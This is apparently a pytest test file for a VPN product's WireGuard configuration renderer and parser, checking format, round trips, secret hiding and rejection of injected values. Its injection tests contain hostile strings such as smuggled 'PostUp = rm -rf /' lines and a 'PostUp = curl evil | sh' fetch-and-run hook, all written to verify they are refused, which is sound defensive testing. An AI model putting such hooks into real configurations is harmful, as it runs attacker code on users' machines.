"""WireGuard config render/parse: exact format, strict parsing, round trips, no injection."""

from __future__ import annotations

import dataclasses
import os
import random
import shutil
import subprocess
import time
import uuid
from pathlib import Path

import pytest

from nexavpn_shared.keys import generate_keypair, generate_private_key, public_key_from_private
from nexavpn_shared.wgconf import (
    PRIVATE_KEY_PLACEHOLDER,
    ConfigParseError,
    ConfigValueError,
    WgConfig,
    WgInterface,
    WgPeer,
    fill_private_key,
    parse,
    render,
    strip_for_wg,
    validate_config,
)

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
GW_KEY = "pOCSkrZRwni5dyxWn1+puxPZBrRqtoyd+dwrRAn4ogk="
OTHER_KEY = "zo060cy2M+x7cMF4FKXHbs0CloUFDTRHRboFhw5YfVk="


def profile(**peer_changes: object) -> WgConfig:
    peer = WgPeer(
        public_key=GW_KEY,
        # The DNS servers are routed into the tunnel too (as the server renders profiles).
        allowed_ips=(
            "10.20.0.0/24", "192.168.50.0/23", "fd00:20::/64", "10.8.0.1/32", "fd8a::1/128"
        ),
        endpoint="vpn.example.com:51820",
        persistent_keepalive=25,
        name="gw-paris-1",
    )
    return WgConfig(
        interface=WgInterface(
            private_key=PRIVATE_KEY_PLACEHOLDER,
            addresses=("10.8.0.7/32", "fd8a::7/128"),
            dns=("10.8.0.1", "fd8a::1"),
            mtu=1420,
        ),
        peers=(dataclasses.replace(peer, **peer_changes),),
        name="Office VPN",
    )


# ------------------------------------------------------------------ exact format


def test_render_matches_fixture() -> None:
    expected = (FIXTURES / "wg_profile_rendered.conf").read_text()
    assert render(profile()) == expected
    assert parse(expected) == profile()


def test_render_for_wg_setconf_drops_wg_quick_keys() -> None:
    text = render(profile(), wg_quick=False)
    assert "Address" not in text and "DNS" not in text and "MTU" not in text
    assert text.splitlines()[:3] == [
        "# NexaVPN: Office VPN",
        "[Interface]",
        f"PrivateKey = {PRIVATE_KEY_PLACEHOLDER}",
    ]
    allowed = "10.20.0.0/24, 192.168.50.0/23, fd00:20::/64, 10.8.0.1/32, fd8a::1/128"
    assert f"AllowedIPs = {allowed}" in text
    assert strip_for_wg(render(profile())) == text


def test_render_gateway_style_config() -> None:
    private = generate_private_key()
    cfg = WgConfig(
        interface=WgInterface(private_key=private, listen_port=51820),
        peers=(
            WgPeer(GW_KEY, ("10.8.0.2/32", "fd8a::2/128"), preshared_key=OTHER_KEY, name="dev 2"),
            WgPeer(OTHER_KEY, ("10.8.0.3/32",)),
        ),
    )
    text = render(cfg, wg_quick=False)
    assert text == (
        "[Interface]\n"
        f"PrivateKey = {private}\n"
        "ListenPort = 51820\n"
        "\n"
        "# NexaVPN: dev 2\n"
        "[Peer]\n"
        f"PublicKey = {GW_KEY}\n"
        f"PresharedKey = {OTHER_KEY}\n"
        "AllowedIPs = 10.8.0.2/32, fd8a::2/128\n"
        "\n"
        "[Peer]\n"
        f"PublicKey = {OTHER_KEY}\n"
        "AllowedIPs = 10.8.0.3/32\n"
    )
    assert parse(text) == cfg


def test_render_normalises_values() -> None:
    cfg = WgConfig(
        interface=WgInterface(None, ["10.8.0.7"], ["FD8A::0001"]),  # type: ignore[arg-type]
        peers=[WgPeer(GW_KEY, ["FD00:20:0::/64"], "VPN.Example.com:51820")],  # type: ignore[arg-type]
    )
    text = render(cfg)
    assert "Address = 10.8.0.7/32\n" in text
    assert "DNS = fd8a::1\n" in text
    assert "AllowedIPs = fd00:20::/64\n" in text
    assert "Endpoint = vpn.example.com:51820\n" in text
    assert "PrivateKey" not in text


def test_reprs_hide_secrets() -> None:
    private = generate_private_key()
    cfg = WgConfig(
        WgInterface(private_key=private),
        (WgPeer(GW_KEY, preshared_key=OTHER_KEY),),
    )
    for text in (repr(cfg), str(cfg), repr(cfg.interface), repr(cfg.peers[0])):
        assert private not in text
        assert OTHER_KEY not in text
    assert GW_KEY in repr(cfg)


# ------------------------------------------------------------------ injection


def _bad(**changes: object) -> None:
    with pytest.raises(ConfigValueError) as info:
        render(profile(**changes))
    assert "\n[" not in str(info.value)


INJECTED_KEY = f"{GW_KEY}\n[Peer]\nPublicKey = {OTHER_KEY}"


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"name": f"x\n[Peer]\nPublicKey = {OTHER_KEY}"}, "peers[0].name"),
        ({"name": "a=b"}, "peers[0].name"),
        ({"name": "a[b"}, "peers[0].name"),
        ({"name": "a]b"}, "peers[0].name"),
        ({"name": "a#b"}, "peers[0].name"),
        ({"name": "x\rPostUp = rm -rf /"}, "peers[0].name"),
        ({"name": "x\u2028[Peer]"}, "peers[0].name"),
        ({"name": "x\u2029y"}, "peers[0].name"),
        ({"name": "x\x85y"}, "peers[0].name"),
        ({"name": "x\x0by"}, "peers[0].name"),
        ({"name": "x\u202ey"}, "peers[0].name"),
        ({"name": ""}, "peers[0].name"),
        ({"name": " padded"}, "peers[0].name"),
        ({"name": "x" * 65}, "peers[0].name"),
        ({"public_key": INJECTED_KEY}, "peers[0].public_key"),
        ({"public_key": PRIVATE_KEY_PLACEHOLDER}, "peers[0].public_key"),
        ({"public_key": GW_KEY[:-2] + "B="}, "peers[0].public_key"),
        ({"preshared_key": "x\nPostUp = id"}, "peers[0].preshared_key"),
        ({"endpoint": "vpn.example.com:51820\nPostUp = id"}, "peers[0].endpoint"),
        ({"endpoint": "vpn.example.com:51820\r\n[Peer]"}, "peers[0].endpoint"),
        ({"endpoint": "vpn.example.com:51820 # c"}, "peers[0].endpoint"),
        ({"endpoint": "vpn.example.com:0"}, "peers[0].endpoint"),
        ({"endpoint": "vpn.example.com"}, "peers[0].endpoint"),
        ({"allowed_ips": ("10.0.0.0/8, 0.0.0.0/0",)}, "peers[0].allowed_ips[0]"),
        ({"allowed_ips": ("10.0.0.0/8\nEndpoint = evil:1",)}, "peers[0].allowed_ips[0]"),
        ({"allowed_ips": ("10.0.0.1/8",)}, "peers[0].allowed_ips[0]"),
        ({"allowed_ips": ("10.0.0.0/8", "")}, "peers[0].allowed_ips[1]"),
        ({"persistent_keepalive": 65536}, "peers[0].persistent_keepalive"),
        ({"persistent_keepalive": -1}, "peers[0].persistent_keepalive"),
        ({"persistent_keepalive": True}, "peers[0].persistent_keepalive"),
        ({"persistent_keepalive": "25\nPostUp = id"}, "peers[0].persistent_keepalive"),
    ],
)
def test_injection_into_peer_is_refused(changes: dict, field: str) -> None:
    with pytest.raises(ConfigValueError) as info:
        render(profile(**changes))
    assert info.value.field == field
    for value in changes.values():
        if isinstance(value, str) and len(value) > 3:
            assert value not in str(info.value)


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"private_key": "x\n[Peer]"}, "interface.private_key"),
        ({"private_key": PRIVATE_KEY_PLACEHOLDER + "\nPostUp = id"}, "interface.private_key"),
        ({"addresses": ("10.8.0.7/32\nPostUp = id",)}, "interface.addresses[0]"),
        ({"addresses": ("10.8.0.7/32, 10.9.0.1/32",)}, "interface.addresses[0]"),
        ({"addresses": ("10.8.0.0/255.255.255.0",)}, "interface.addresses[0]"),
        ({"dns": ("1.1.1.1, 8.8.8.8",)}, "interface.dns[0]"),
        ({"dns": ("1.1.1.1,8.8.8.8",)}, "interface.dns[0]"),
        ({"dns": ("corp.example\nPostUp = id",)}, "interface.dns[0]"),
        ({"dns": ("corp.example\u2028PostUp = id",)}, "interface.dns[0]"),
        ({"dns": ("a=b",)}, "interface.dns[0]"),
        ({"dns": ("$(id)",)}, "interface.dns[0]"),
        ({"dns": ("corp_example",)}, "interface.dns[0]"),
        ({"mtu": 575}, "interface.mtu"),
        ({"mtu": 9001}, "interface.mtu"),
        ({"mtu": "1420"}, "interface.mtu"),
        ({"listen_port": 65536}, "interface.listen_port"),
    ],
)
def test_injection_into_interface_is_refused(changes: dict, field: str) -> None:
    cfg = profile()
    cfg = dataclasses.replace(cfg, interface=dataclasses.replace(cfg.interface, **changes))
    with pytest.raises(ConfigValueError) as info:
        render(cfg)
    assert info.value.field == field


@pytest.mark.parametrize("name", ["x\n[Peer]", "a=b", "#x", "x\u2028y", "", " x", "\x00"])
def test_injection_into_config_name_is_refused(name: str) -> None:
    with pytest.raises(ConfigValueError) as info:
        render(dataclasses.replace(profile(), name=name))
    assert info.value.field == "name"


def test_duplicate_peer_is_refused() -> None:
    cfg = profile()
    cfg = dataclasses.replace(cfg, peers=(cfg.peers[0], cfg.peers[0]))
    with pytest.raises(ConfigValueError) as info:
        render(cfg)
    assert info.value.field == "peers[1].public_key"


def test_wrong_types_are_refused() -> None:
    with pytest.raises(ConfigValueError):
        render("[Interface]")  # type: ignore[arg-type]
    with pytest.raises(ConfigValueError):
        validate_config(WgConfig(WgInterface(None), peers=("peer",)))  # type: ignore[arg-type]


# ------------------------------------------------------------------ parse


def test_parse_is_case_insensitive_and_accepts_lists_comments_blank_lines() -> None:
    text = (
        "# some comment\r\n"
        "\n"
        "[interface]  # trailing comment\n"
        "privatekey=__NEXAVPN_PRIVATE_KEY__\n"
        "  ADDRESS = 10.8.0.7/32\n"
        "address = fd8a::7/128\n"
        "Dns = 10.8.0.1,corp.example\n"
        "\tmtu = 1380\n"
        "[PEER]\n"
        f"publickey = {GW_KEY}\n"
        "allowedips = 10.20.0.0/24 , 10.21.0.0/24\n"
        "AllowedIPs = 10.20.0.5/24\n"
        "endpoint = 203.0.113.9:51820\n"
        "persistentkeepalive = 0\n"
    )
    cfg = parse(text)
    assert cfg.name is None
    assert cfg.interface.private_key == PRIVATE_KEY_PLACEHOLDER
    assert cfg.interface.addresses == ("10.8.0.7/32", "fd8a::7/128")
    assert cfg.interface.dns == ("10.8.0.1", "corp.example")
    assert cfg.interface.mtu == 1380
    assert cfg.peers[0].allowed_ips == ("10.20.0.0/24", "10.21.0.0/24", "10.20.0.0/24")
    assert cfg.peers[0].persistent_keepalive == 0
    assert cfg.peers[0].endpoint == "203.0.113.9:51820"


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("[Interface]\nPostUp = id\n", 2),
        ("[Interface]\nTable = off\n", 2),
        ("[Interface]\nSaveConfig = true\n", 2),
        ("[Interface]\nFwMark = 1\n", 2),
        ("[Interface]\n[Peer]\nPublicKey = {k}\nPreUp = id\n", 4),
        ("[Interface]\n[Peer]\nAddress = 10.0.0.1/32\n", 3),
        ("[Interface]\nPublicKey = {k}\n", 2),
        ("[Interface]\n[Bogus]\n", 2),
        ("[Interface]\n[Interface]\n", 2),
        ("PrivateKey = {k}\n[Interface]\n", 1),
        ("[Interface]\nPrivateKey\n", 2),
        ("[Interface]\nPrivateKey = {k}\nPrivateKey = {k}\n", 3),
        ("[Interface]\nMTU = 1420\nMTU = 1420\n", 3),
        ("[Interface]\nMTU = big\n", 2),
        ("[Interface]\nMTU = 100\n", 2),
        ("[Interface]\nMTU =\n", 2),
        ("[Interface]\nListenPort = 99999999\n", 2),
        ("[Interface]\nAddress = 10.0.0.1/32,,10.0.0.2/32\n", 2),
        ("[Interface]\nAddress = 10.0.0.999/32\n", 2),
        ("[Interface]\nDNS = bad_host\n", 2),
        ("[Interface]\nPrivateKey = notakey\n", 2),
        ("[Interface]\n\n[Peer]\nAllowedIPs = 10.0.0.0/8\n", 3),
        ("[Interface]\n[Peer]\nPublicKey = {k}\n[Peer]\nPublicKey = {k}\n", 4),
        ("[Interface]\n[Peer]\nPublicKey = {k}\nEndpoint = host\n", 4),
        ("[Interface]\n[Peer]\nPublicKey = {k}\nPersistentKeepalive = 70000\n", 4),
        ("[Interface]\n[Peer]\nPublicKey = {k}\nPresharedKey = " + PRIVATE_KEY_PLACEHOLDER, 4),
        ("[Interface]\n[Peer]\nPublic Key = {k}\n", 3),
        ("[Interface]\nMTU = 1420\rPostUp = id\n", 2),
        ("[Interface]\nMTU = 1420\u2028PostUp = id\n", 2),
        ("[Interface]\nMTU = 1420\x0bPostUp = id\n", 2),
        ("[Interface]\nMTU = 1420\x00\n", 2),
        ("# NexaVPN: a=b\n[Interface]\n", 1),
        ("# NexaVPN: x\n\n[Interface]\n", 1),
        ("# NexaVPN: x\n# NexaVPN: y\n[Interface]\n", 2),
        ("[Interface]\n# NexaVPN: x\nMTU = 1420\n", 2),
        ("[Interface]\n# NexaVPN: x\n", 2),
        ("[Interface]\n# NexaVPN:\n[Peer]\nPublicKey = {k}\n", 2),
    ],
)
def test_parse_rejects_with_line_number(text: str, line: int) -> None:
    with pytest.raises(ConfigParseError) as info:
        parse(text.replace("{k}", GW_KEY))
    assert info.value.line == line
    assert isinstance(info.value, ValueError)


def test_parse_rejects_missing_interface_and_non_text() -> None:
    with pytest.raises(ConfigParseError):
        parse("")
    with pytest.raises(ConfigParseError):
        parse(f"[Peer]\nPublicKey = {GW_KEY}\n")
    with pytest.raises(ConfigParseError):
        parse(b"[Interface]\n")  # type: ignore[arg-type]


def test_parse_errors_never_echo_a_private_key() -> None:
    private = generate_private_key()
    for text in (
        f"[Interface]\nPrivateKey = {private}\nPrivateKey = {private}\n",
        f"[Interface]\nPrivateKey = {private}x\n",
        f"[Interface]\nPrivateKey = {private}\nPostUp = {private}\n",
    ):
        with pytest.raises(ConfigParseError) as info:
            parse(text)
        assert private not in str(info.value)
        assert private[:20] not in repr(info.value)


# ------------------------------------------------------------------ round trips


HOST_CHARS = "abcdefghijklmnopqrstuvwxyz0123456789"
NAME_CHARS = "abcXYZ019 -_.,;:'\"()!?@$%&*+/<>|\\~`^{}éßЖ中😀"


def _hostname(rng: random.Random) -> str:
    labels = []
    for _ in range(rng.randint(1, 4)):
        label = "".join(rng.choice(HOST_CHARS) for _ in range(rng.randint(1, 12)))
        if len(label) > 2 and rng.random() < 0.3:
            label = label[0] + "-" + label[2:]
        labels.append(label)
    labels[-1] = "x" + labels[-1]  # never all-numeric
    return ".".join(labels)


def _ip(rng: random.Random, version: int) -> str:
    import ipaddress

    if version == 4:
        return str(ipaddress.IPv4Address(rng.getrandbits(32)))
    return str(ipaddress.IPv6Address(rng.getrandbits(128)))


def _net(rng: random.Random) -> str:
    import ipaddress

    if rng.random() < 0.5:
        return str(ipaddress.ip_network((rng.getrandbits(32), rng.randint(0, 32)), strict=False))
    return str(ipaddress.ip_network((rng.getrandbits(128), rng.randint(0, 128)), strict=False))


def _iface_addr(rng: random.Random) -> str:
    import ipaddress

    if rng.random() < 0.5:
        return str(ipaddress.ip_interface((rng.getrandbits(32), rng.randint(0, 32))))
    return str(ipaddress.ip_interface((rng.getrandbits(128), rng.randint(0, 128))))


def _name(rng: random.Random) -> str | None:
    if rng.random() < 0.3:
        return None
    text = "".join(rng.choice(NAME_CHARS) for _ in range(rng.randint(1, 64))).strip()
    return text or "n"


def _endpoint(rng: random.Random) -> str | None:
    kind = rng.randint(0, 3)
    port = rng.randint(1, 65535)
    if kind == 0:
        return None
    if kind == 1:
        return f"{_hostname(rng)}:{port}"
    if kind == 2:
        return f"{_ip(rng, 4)}:{port}"
    return f"[{_ip(rng, 6)}]:{port}"


def _maybe_int(rng: random.Random, lo: int, hi: int) -> int | None:
    return None if rng.random() < 0.3 else rng.randint(lo, hi)


def random_config(rng: random.Random) -> WgConfig:
    keys = [generate_keypair().public_key for _ in range(rng.randint(0, 5))]
    peers = tuple(
        WgPeer(
            public_key=key,
            allowed_ips=tuple(_net(rng) for _ in range(rng.randint(0, 6))),
            endpoint=_endpoint(rng),
            persistent_keepalive=_maybe_int(rng, 0, 65535),
            preshared_key=generate_private_key() if rng.random() < 0.3 else None,
            name=_name(rng),
        )
        for key in keys
    )
    private = rng.choice([None, PRIVATE_KEY_PLACEHOLDER, generate_private_key()])
    return WgConfig(
        interface=WgInterface(
            private_key=private,
            addresses=tuple(_iface_addr(rng) for _ in range(rng.randint(0, 3))),
            dns=tuple(
                _ip(rng, rng.choice((4, 6))) if rng.random() < 0.7 else _hostname(rng)
                for _ in range(rng.randint(0, 4))
            ),
            mtu=_maybe_int(rng, 576, 9000),
            listen_port=_maybe_int(rng, 0, 65535),
        ),
        peers=peers,
        name=_name(rng),
    )


def test_round_trip_many_random_configs() -> None:
    rng = random.Random(20240601)
    for _ in range(400):
        cfg = random_config(rng)
        text = render(cfg)
        assert parse(text) == cfg, text
        assert render(parse(text)) == text
        stripped = render(cfg, wg_quick=False)
        bare = dataclasses.replace(
            cfg, interface=dataclasses.replace(cfg.interface, addresses=(), dns=(), mtu=None)
        )
        assert parse(stripped) == bare
        assert strip_for_wg(text) == stripped


def test_round_trip_survives_crlf() -> None:
    text = render(profile())
    assert parse(text.replace("\n", "\r\n")) == profile()


# ------------------------------------------------------------------ fill_private_key


def test_fill_private_key() -> None:
    pair = generate_keypair()
    text = render(profile())
    filled = fill_private_key(text, pair.private_key)
    assert PRIVATE_KEY_PLACEHOLDER not in filled
    assert f"PrivateKey = {pair.private_key}\n" in filled
    assert filled == text.replace(PRIVATE_KEY_PLACEHOLDER, pair.private_key)
    assert parse(filled).interface.private_key == pair.private_key
    assert public_key_from_private(parse(filled).interface.private_key) == pair.public_key


def test_fill_private_key_refusals() -> None:
    text = render(profile())
    private = generate_private_key()
    with pytest.raises(ConfigValueError) as info:
        fill_private_key(text, "not a key\n[Peer]")
    assert info.value.field == "private_key"
    with pytest.raises(ConfigValueError):
        fill_private_key(text, PRIVATE_KEY_PLACEHOLDER)
    with pytest.raises(ConfigValueError):  # no placeholder: already filled
        fill_private_key(text.replace(PRIVATE_KEY_PLACEHOLDER, private), private)
    with pytest.raises(ConfigValueError):  # no PrivateKey line at all
        fill_private_key(text.replace(f"PrivateKey = {PRIVATE_KEY_PLACEHOLDER}\n", ""), private)
    with pytest.raises(ConfigValueError):  # placeholder twice
        fill_private_key(f"# {PRIVATE_KEY_PLACEHOLDER}\n" + text, private)
    with pytest.raises(ConfigParseError):  # a hostile profile with a hook
        fill_private_key(text.replace("MTU = 1420", "PostUp = curl evil | sh"), private)
    with pytest.raises(ConfigParseError):
        fill_private_key(text + "[Interface]\nPrivateKey = " + PRIVATE_KEY_PLACEHOLDER, private)


# ------------------------------------------------------------------ the real tools

WG = shutil.which("wg")
WG_QUICK = shutil.which("wg-quick")
WG_GO = shutil.which("wireguard-go")


@pytest.mark.skipif(WG_QUICK is None, reason="wg-quick (wireguard-tools) is not installed")
def test_strip_for_wg_matches_wg_quick_strip(tmp_path: Path) -> None:
    rng = random.Random(99)
    for i in range(10):
        cfg = random_config(rng)
        cfg = dataclasses.replace(
            cfg, interface=dataclasses.replace(cfg.interface, private_key=generate_private_key())
        )
        path = tmp_path / f"nx{i}.conf"
        path.write_text(render(cfg))
        path.chmod(0o600)
        done = subprocess.run(
            [WG_QUICK, "strip", str(path)], capture_output=True, text=True, timeout=20,
            check=True,
        )
        assert done.stdout.rstrip("\n") == strip_for_wg(path.read_text()).rstrip("\n")


@pytest.mark.netns
@pytest.mark.skipif(
    WG is None or WG_GO is None or shutil.which("ip") is None or os.geteuid() != 0,
    reason="needs root, ip, wg and wireguard-go",
)
def test_real_wg_setconf_accepts_rendered_config(tmp_path: Path) -> None:
    """Load our wg_quick=False text into a real (userspace) interface and read it back."""
    suffix = uuid.uuid4().hex[:8]
    ns, ifname = f"nxs{suffix}", f"nxs{suffix}"
    subprocess.run(["ip", "netns", "add", ns], check=True, timeout=10)
    proc = None
    try:
        proc = subprocess.Popen(
            ["ip", "netns", "exec", ns, WG_GO, "-f", ifname],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )
        sock = Path(f"/var/run/wireguard/{ifname}.sock")
        deadline = time.monotonic() + 10
        while not sock.exists() and time.monotonic() < deadline:
            time.sleep(0.05)
        assert sock.exists(), "wireguard-go did not start"
        pair = generate_keypair()
        cfg = WgConfig(
            interface=WgInterface(private_key=pair.private_key, listen_port=rng_port()),
            peers=(
                WgPeer(GW_KEY, ("10.8.0.2/32", "fd8a::2/128"), "127.0.0.1:51999", 25,
                       OTHER_KEY, name="first"),
                WgPeer(OTHER_KEY, ("10.20.0.0/24",), "[::1]:52000", name="second"),
            ),
            name="gateway",
        )
        conf = tmp_path / "nx.conf"
        conf.write_text(render(cfg, wg_quick=False))
        conf.chmod(0o600)
        exec_ns = ["ip", "netns", "exec", ns, WG]
        subprocess.run([*exec_ns, "setconf", ifname, str(conf)], check=True, timeout=10,
                       capture_output=True)
        shown = subprocess.run([*exec_ns, "showconf", ifname], check=True, timeout=10,
                               capture_output=True, text=True).stdout
        back = parse(shown)
        assert back.interface.private_key == pair.private_key
        assert back.interface.listen_port == cfg.interface.listen_port
        by_key = {p.public_key: p for p in back.peers}
        assert set(by_key) == {GW_KEY, OTHER_KEY}
        assert set(by_key[GW_KEY].allowed_ips) == {"10.8.0.2/32", "fd8a::2/128"}
        assert by_key[GW_KEY].endpoint == "127.0.0.1:51999"
        assert by_key[GW_KEY].persistent_keepalive == 25
        assert by_key[GW_KEY].preshared_key == OTHER_KEY
        assert by_key[OTHER_KEY].endpoint == "[::1]:52000"
        assert subprocess.run(
            [*exec_ns, "show", ifname, "public-key"], check=True, timeout=10,
            capture_output=True, text=True,
        ).stdout.strip() == pair.public_key
    finally:
        subprocess.run(["ip", "netns", "exec", ns, "ip", "link", "del", ifname],
                       timeout=10, capture_output=True)
        if proc is not None:
            proc.terminate()
            try:
                proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                proc.kill()
        subprocess.run(["ip", "netns", "del", ns], timeout=10, capture_output=True)
        Path(f"/var/run/wireguard/{ifname}.sock").unlink(missing_ok=True)


def rng_port() -> int:
    return random.SystemRandom().randint(40000, 60000)


# ------------------------------------------------------------------ comment_name


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Bob's #1 laptop", "Bob's _1 laptop"),
        ("a=b [x]", "a_b _x_"),
        ("  line\nbreak\u2028sep\u200b ", "line_break_sep_"),
        ("x" * 100, "x" * 64),
        ("   ", None),
        ("", None),
        (None, None),
        ("Zoë's Mac", "Zoë's Mac"),
    ],
)
def test_comment_name(value: object, expected: str | None) -> None:
    from nexavpn_shared.wgconf import comment_name

    got = comment_name(value)
    assert got == expected
    if got is not None:
        cfg = dataclasses.replace(profile(name=got), name=got)
        assert parse(render(cfg)) == cfg
